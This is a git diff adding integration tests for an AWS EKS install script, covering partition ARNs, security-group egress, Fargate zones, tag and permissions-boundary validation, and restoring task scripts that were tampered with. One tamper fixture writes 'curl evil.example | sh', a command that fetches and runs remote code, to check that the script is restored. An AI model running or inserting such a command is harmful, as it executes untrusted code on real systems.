@@ -2,14 +2,18 @@ package io.eksphemeral.local;
 
 import static io.eksphemeral.local.Account.CLUSTER_BUCKET;
 import static io.eksphemeral.local.Account.SERVICE_BUCKET;
+import static java.util.stream.Collectors.joining;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
+import java.util.TreeMap;
 import java.util.regex.Pattern;
+import java.util.stream.IntStream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
@@ -159,6 +163,28 @@ class InstallScriptIT {
     scripts.with("AWS_REGION", region);
 
     refused("'" + region + "' is no name of a region");
+  }
+
+  @Test
+  void thePartitionIsThatOfWhoInstalls() throws Exception {
+    account.answers(
+        "sts get-caller-identity*",
+        "{\"Account\": \"123456789012\", \"Arn\": \"arn:aws-us-gov:iam::123456789012:user/alice\"}");
+    account.api().forgets(Account.KEY);
+
+    scripts
+        .with("AWS_REGION", "us-gov-west-1")
+        .run("eksp-up.sh")
+        .exits(1)
+        .says(
+            "execute-api:Invoke", "arn:aws-us-gov:execute-api:us-gov-west-1:123456789012:abc123/*");
+
+    for (String bucket : List.of(SERVICE_BUCKET, CLUSTER_BUCKET)) {
+      assertThat(account.file("buckets/" + bucket + "/get-bucket-policy"))
+          .content()
+          .contains("arn:aws-us-gov:s3:::" + bucket + "/*")
+          .doesNotContain("arn:aws:");
+    }
   }
 
   @ParameterizedTest
@@ -334,6 +360,8 @@ class InstallScriptIT {
     "--security-group, default, --security-group takes the id of one",
     "--instance-types, large, --instance-types takes types of EC2",
     "--max-minutes, 0, --max-minutes takes a whole number",
+    "--owner-domains, you@corp.io, --owner-domains takes mail domains",
+    "--owner-domains, 'corp.io,', --owner-domains takes mail domains",
     "--notify, me@localhost, --notify takes a mail address",
     "--notify, me@example.com, addresses there are nobody's",
     "--notify, 'a@b.io,c@d.io', --notify takes a mail address"
@@ -381,6 +409,77 @@ class InstallScriptIT {
 
     assertThat(account.parameter("MaxClusters")).isEqualTo("7");
     assertThat(account.calls()).noneMatch(call -> call.contains("delete-stack"));
+  }
+
+  // --- where tasks run ---
+
+  @ParameterizedTest
+  @CsvSource({
+    "sg-1 vpc-1",
+    "sg-1 vpc-1 tcp 80 80 0.0.0.0/0",
+    "sg-1 vpc-1 udp 443 443 0.0.0.0/0",
+    "sg-1 vpc-1 tcp 444 65535 0.0.0.0/0"
+  })
+  void aSecurityGroupWithNoWayOutIsRefused(String group) throws Exception {
+    account.groups(group);
+
+    refused(
+        "the security group sg-1 lets nothing out to port 443",
+        "aws ec2 authorize-security-group-egress --region us-east-2 --group-id sg-1 --protocol tcp");
+    Scripts.Outcome chosen = scripts.run("eksp-up.sh", "--security-group", "sg-1").exits(1);
+    chosen.says("the security group sg-1 lets nothing out to port 443");
+  }
+
+  @Test
+  void theSecurityGroupThatLetsTheMostOutIsPreferred() throws Exception {
+    account.groups(
+        "sg-1 vpc-1", "sg-2 vpc-1 tcp 443 443 10.0.0.0/8", "sg-3 vpc-1 tcp 0 65535 0.0.0.0/0");
+
+    scripts.run("eksp-up.sh").exits(0).doesNotSay("443");
+
+    assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-3");
+  }
+
+  @Test
+  void aSecurityGroupWithANarrowWayOutIsWarnedOf() throws Exception {
+    account.groups("sg-1 vpc-1", "sg-2 vpc-1 tcp 443 443 10.0.0.0/8");
+
+    scripts
+        .run("eksp-up.sh")
+        .exits(0)
+        .says("sg-2 lets the tasks out to port 443 of some addresses");
+
+    assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-2");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {"use1-az3", "usw1-az2", "apne1-az3", "cnn1-az4", "use2-lax1-az1", "use2-wl1-atl1"})
+  void subnetsInZonesWithoutFargateAreLeftOut(String zone) throws Exception {
+    Path subnets = account.file("subnets.json");
+    Files.writeString(
+        subnets, Files.readString(subnets).replaceFirst("use2-az1", zone)); // of subnet-a1
+
+    scripts.run("eksp-up.sh").exits(0);
+    assertThat(account.parameter("Subnets")).isEqualTo("subnet-b1");
+
+    scripts
+        .run("eksp-up.sh", "--subnets", "subnet-b1,subnet-a1")
+        .exits(1)
+        .says("there is no Fargate in the zones of subnet-a1 (" + zone + ")", "--subnets");
+  }
+
+  @Test
+  void installedSubnetsWithoutFargateAreGivenUp() throws Exception {
+    scripts.run("eksp-up.sh").exits(0);
+    Path subnets = account.file("subnets.json");
+    Files.writeString(subnets, Files.readString(subnets).replaceFirst("use2-az1", "use1-az3"));
+
+    scripts.run("eksp-up.sh").exits(0).says("do not run in subnet-a1 (use1-az3) any more");
+    assertThat(account.parameter("Subnets")).isEqualTo("subnet-b1");
+
+    Files.writeString(subnets, Files.readString(subnets).replace("use2-az", "usw1-az2\",\"x\":\""));
+    scripts.run("eksp-up.sh").exits(1).says("no Fargate in the zones of subnet-b1 (usw1-az2)");
   }
 
   // --- what nodes may be ---
@@ -498,7 +597,7 @@ class InstallScriptIT {
     assertThat(account.parameter("Spot")).isEqualTo("true");
 
     String taskScripts = account.parameter("TaskScripts");
-    assertThat(taskScripts).matches("task/[0-9a-f]{16}");
+    assertThat(taskScripts).matches("task/[0-9a-f]{64}");
     Path uploaded = account.file("buckets/" + SERVICE_BUCKET + "/objects/" + taskScripts);
     assertThat(names(uploaded)).isEqualTo(names(account.root().resolve("svc/task")));
     assertThat(uploaded.resolve("prepare.sh"))
@@ -576,6 +675,100 @@ class InstallScriptIT {
   }
 
   @Test
+  void whoseAddressesMayBeOwnersIsGivenAndKept() throws Exception {
+    scripts.run("eksp-up.sh", "--owner-domains", "corp.io,sub.corp.com").exits(0);
+    scripts.run("eksp-up.sh").exits(0).says("is up to date at");
+    assertThat(account.parameter("OwnerDomains")).isEqualTo("corp.io,sub.corp.com");
+
+    scripts.run("eksp-up.sh", "--owner-domains", "").exits(0);
+    assertThat(account.parameter("OwnerDomains")).isEmpty();
+  }
+
+  @Test
+  void tagsAndBoundaryAreGivenAndKept() throws Exception {
+    String boundary = "arn:aws:iam::123456789012:policy/team/boundary";
+    scripts
+        .run("eksp-up.sh", "--permissions-boundary", boundary, "--tags", "cost center=4=2,team=")
+        .exits(0);
+    assertThat(account.parameter("PermissionsBoundary")).isEqualTo(boundary);
+    assertThat(account.parameter("Tags")).isEqualTo("cost center=4=2,team=");
+    assertThat(stackTags()).isEqualTo(Map.of("cost center", "4=2", "team", ""));
+
+    scripts.run("eksp-up.sh").exits(0).says("is up to date at");
+    assertThat(account.parameter("PermissionsBoundary")).isEqualTo(boundary);
+    assertThat(stackTags()).isEqualTo(Map.of("cost center", "4=2", "team", ""));
+
+    // A tag that somebody else gave the stack is none of ours.
+    Path stack = account.file("stack.json");
+    Files.writeString(
+        stack,
+        Files.readString(stack)
+            .replaceFirst("\"Tags\": \\[", "\"Tags\": [{\"Key\": \"theirs\", \"Value\": \"x\"},"));
+    scripts.run("eksp-up.sh", "--tags", "team=b", "--permissions-boundary", "").exits(0);
+    assertThat(account.parameter("PermissionsBoundary")).isEmpty();
+    assertThat(stackTags()).isEqualTo(Map.of("theirs", "x", "team", "b"));
+    scripts.run("eksp-up.sh", "--tags", "").exits(0);
+    assertThat(stackTags()).isEqualTo(Map.of("theirs", "x"));
+  }
+
+  private Map<String, String> stackTags() throws IOException {
+    Map<String, String> tags = new TreeMap<>();
+    account
+        .stack()
+        .path("Tags")
+        .forEach(tag -> tags.put(tag.path("Key").asText(), tag.path("Value").asText()));
+    return tags;
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "team, '\"team\" is no KEY=VALUE'",
+    "'a=1,', '\"\" is no KEY=VALUE'",
+    "=1, 'the key \"\" must have 1 to 128'",
+    "a;b=1, 'the key \"a;b\" must have'",
+    "a=b;c, 'the value of \"a\" must have at most 256'",
+    "aws:x=1, 'the key \"aws:x\" is reserved'",
+    "AWS:x=1, 'the key \"AWS:x\" is reserved'",
+    "eksphemeral:id=1, 'the key \"eksphemeral:id\" is reserved'",
+    "eks:cluster-name=1, 'the key \"eks:cluster-name\" is reserved'",
+    "kubernetes.io/cluster/x=1, is reserved",
+    "alpha.eksctl.io/cluster-name=1, is reserved",
+    "node.k8s.amazonaws.com/createdAt=1, is reserved",
+    "karpenter.sh/nodepool=1, is reserved",
+    "elbv2.k8s.aws/cluster=1, is reserved",
+    "ebs.csi.aws.com/cluster=1, is reserved",
+    "GuardDutyManaged=1, is reserved",
+    "'Team=1,team=2', 'the key \"Team\" is there 2 times'"
+  })
+  void tagsThatAwsOrWeCannotTakeAreRefused(String tags, String words) throws Exception {
+    scripts.run("eksp-up.sh", "--tags", tags).exits(1).says("nothing was changed", words);
+    assertThat(account.changes()).isEmpty();
+  }
+
+  @Test
+  void theLimitsOfTagsAreExact() throws Exception {
+    String key = "k".repeat(128);
+    String value = "v".repeat(256);
+    scripts.run("eksp-up.sh", "--tags", key + "=" + value).exits(0);
+    scripts.run("eksp-up.sh", "--tags", "k" + key + "=1").exits(1).says("must have 1 to 128");
+    scripts.run("eksp-up.sh", "--tags", "k=v" + value).exits(1).says("must have at most 256");
+    String many = IntStream.rangeClosed(1, 35).mapToObj(i -> "k" + i + "=").collect(joining(","));
+    scripts.run("eksp-up.sh", "--tags", many).exits(0);
+    scripts.run("eksp-up.sh", "--tags", many + ",k36=").exits(1).says("at most 35 tags, not 36");
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "boundary, takes the ARN of a policy",
+    "arn:aws:iam::123456789012:role/x, takes the ARN of a policy",
+    "arn:aws:iam::123456789012:policy/other, cannot be used: Policy arn"
+  })
+  void aBoundaryThatIsNoneIsRefused(String boundary, String words) throws Exception {
+    scripts.run("eksp-up.sh", "--permissions-boundary", boundary).exits(1).says(words);
+    assertThat(account.changes()).isEmpty();
+  }
+
+  @Test
   void theRealTemplateGetsAllThatItWants() throws Exception {
     String real = Files.readString(Scripts.checkout().resolve("template.yaml"));
     Files.writeString(account.root().resolve("template.yaml"), real);
@@ -621,6 +814,33 @@ class InstallScriptIT {
         .exists();
   }
 
+  @ParameterizedTest
+  @ValueSource(strings = {"changed", "gone", "another"})
+  void taskScriptsThatSomebodyChangedAreRestored(String how) throws Exception {
+    scripts.run("eksp-up.sh").exits(0);
+    Path there =
+        account.file(
+            "buckets/%s/objects/%s".formatted(SERVICE_BUCKET, account.parameter("TaskScripts")));
+    switch (how) {
+      case "changed" -> Files.writeString(there.resolve("ours.sh"), "curl evil.example | sh\n");
+      case "gone" -> Files.delete(there.resolve("ours.sh"));
+      default -> Files.writeString(there.resolve("more.sh"), "evil\n");
+    }
+
+    Scripts.Outcome outcome = scripts.run("eksp-up.sh").exits(0).says("is up to date at ");
+
+    if (how.equals("gone")) {
+      outcome.says("uploaded the task scripts").doesNotSay("somebody");
+    } else {
+      outcome.says("somebody had changed the task scripts", "they are restored");
+    }
+    assertThat(names(there)).isEqualTo(names(account.root().resolve("svc/task")));
+    assertThat(there.resolve("ours.sh"))
+        .hasSameTextualContentAs(account.root().resolve("svc/task/ours.sh"));
+    account.forgetCalls();
+    scripts.run("eksp-up.sh").exits(0).doesNotSay("task scripts");
+  }
+
   @Test
   void whatIsSetUpOnABucketStays() throws Exception {
     account
@@ -663,6 +883,33 @@ class InstallScriptIT {
                 account.file("buckets/" + SERVICE_BUCKET + "/get-bucket-lifecycle-configuration")))
         .as("only records expire by themselves")
         .doesNotContain("gone/", "tasks/");
+  }
+
+  /** S3 takes these documents as a whole: what is not written back is lost. */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "get-bucket-lifecycle-configuration | {'Rules':[],'TransitionDefaultMinimumObjectSize':'varies_by_storage_class'}"
+            + " | varies_by_storage_class",
+        "get-bucket-versioning | {'Status':'Suspended','MFADelete':'Disabled'} | MFADelete",
+        "get-public-access-block | {'PublicAccessBlockConfiguration':{'BlockPublicAcls':true,'More':true}} | More",
+        "get-bucket-encryption | {'ServerSideEncryptionConfiguration':{'Rules':[],'More':true}} | More",
+        "get-bucket-policy | {'Policy':'{\\'Id\\':\\'mine\\',\\'Statement\\':[]}'} | mine",
+      })
+  void whatStandsBesideWhatIsChangedIsKept(String document, String before, String kept)
+      throws Exception {
+    String file = "buckets/" + CLUSTER_BUCKET + "/" + document;
+    account.object(CLUSTER_BUCKET, "x", "").write(file, before.replace('\'', '"') + "\n");
+
+    scripts.run("eksp-up.sh").exits(0).says("the bucket " + CLUSTER_BUCKET + " is now ");
+
+    assertThat(account.file(file)).content().contains(kept);
+    assertThat(Files.readString(account.file(file)).strip())
+        .as("it was changed")
+        .isNotEqualTo(before.replace('\'', '"'));
+    account.forgetCalls();
+    scripts.run("eksp-up.sh").exits(0).doesNotSay(" is now ");
   }
 
   @Test
